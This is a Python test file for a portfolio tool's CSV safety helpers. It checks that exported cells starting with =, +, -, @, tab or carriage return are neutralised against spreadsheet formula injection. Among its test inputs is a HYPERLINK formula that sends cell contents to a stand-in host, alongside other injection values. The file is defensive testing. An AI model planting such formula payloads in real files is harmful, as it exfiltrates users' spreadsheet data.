"""No CSV SigmaSight writes makes a spreadsheet run a formula (issue 12, item 11)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pandas as pd
import pytest

from sigmasight_lib.config import Settings
from sigmasight_lib.db.session import session_scope
from sigmasight_lib.marketdata.offline import OfflineSnapshotProvider
from sigmasight_lib.portfolios.csv_import import parse_positions_csv, template_csv
from sigmasight_lib.portfolios.importer import import_portfolio_csv
from sigmasight_lib.reporting.csv_safety import csv_text, safe_cell, safe_frame
from sigmasight_lib.reporting.writers import write_reports
from sigmasight_lib.runs import run_valuation
from sigmasight_lib.whatif.fix import trades_csv

AS_OF = dt.date(2017, 3, 29)
HOSTILE_STRATEGY = '=HYPERLINK("http://e.x/?d="&A1,"click")'


def _read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("-2-3", "'-2-3"),
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-inf", "'-inf"),
        ("-5.2", "-5.2"),
        ("+3", "+3"),
        ("-1e-4", "-1e-4"),
        ("AAPL", "AAPL"),
        ("a=b", "a=b"),
        ("", ""),
        (-5.2, -5.2),
        (None, None),
    ],
)
def test_safe_cell(value, written) -> None:
    assert safe_cell(value) == written


def test_safe_frame_keeps_number_columns_numbers() -> None:
    frame = pd.DataFrame({"tags": ["-2-3", "Tech"], "quantity": [-50.0, 10.0]})
    out = safe_frame(frame)
    assert out["tags"].tolist() == ["'-2-3", "Tech"]
    assert out["quantity"].dtype == float and out["quantity"].tolist() == [-50.0, 10.0]
    assert frame["tags"].tolist() == ["-2-3", "Tech"]  # the input is not changed


def test_csv_text_reads_back_with_the_prefix() -> None:
    text = csv_text(["name", "qty"], [["@cmd", "-7"], ["=2*3", -1.5]])
    assert list(csv.reader(io.StringIO(text))) == [
        ["name", "qty"],
        ["'@cmd", "-7"],
        ["'=2*3", "-1.5"],
    ]


def test_template_is_written_through_the_helper_and_still_parses() -> None:
    rows = _read(template_csv())
    assert [r["quantity"] for r in rows] == ["100", "-50", "2", "-1"]  # numbers stay numbers
    assert len(parse_positions_csv(template_csv()).rows) == 4


def test_whatif_csv_export_keeps_signed_quantities_numbers() -> None:
    trades = [{"id": 1, "symbol": "AAPL", "quantity": -2000.0, "price": None}]
    [row] = _read(trades_csv(trades))
    assert (row["symbol"], row["side"], row["signed_quantity"]) == ("AAPL", "SELL", "-2000")


def test_hostile_tag_and_strategy_in_positions_csv(
    sqlite_demo_db: Settings, tmp_path: Path
) -> None:
    """Tags the tag rules accept (``-2-3``, ``-1 -1``), imported by CSV, reach positions.csv."""
    source = tmp_path / "hostile.csv"
    with source.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(
            [
                ["symbol", "quantity", "entry_price", "entry_date", "tags", "strategy"],
                ["AAPL", "100", "30.10", "2016-06-15", "-2-3", HOSTILE_STRATEGY],
                ["XOM", "-50", "80", "2016-06-15", "-1 -1;Tech", "@SUM(1+1)"],
            ]
        )
    with session_scope(sqlite_demo_db) as session:
        result = import_portfolio_csv(
            session,
            source,
            name="Hostile",
            owner_email="h@example.com",
            provider=OfflineSnapshotProvider(),
        )
        assert result.report.ok, result.report.issues
        portfolio_id = result.written.portfolio_id
    run_valuation(sqlite_demo_db, portfolio_id, as_of=AS_OF)
    paths = write_reports(
        sqlite_demo_db, portfolio_id, as_of=AS_OF, formats="csv", output_dir=tmp_path
    )
    rows = {r["symbol"]: r for r in _read(paths["csv"].read_text(encoding="utf-8"))}
    assert rows["AAPL"]["tags"] == "'-2-3"  # positions.csv has no strategy column
    assert rows["XOM"]["tags"] == "'-1 -1; Tech"
    assert (rows["AAPL"]["quantity"], rows["XOM"]["quantity"]) == ("100", "-50")
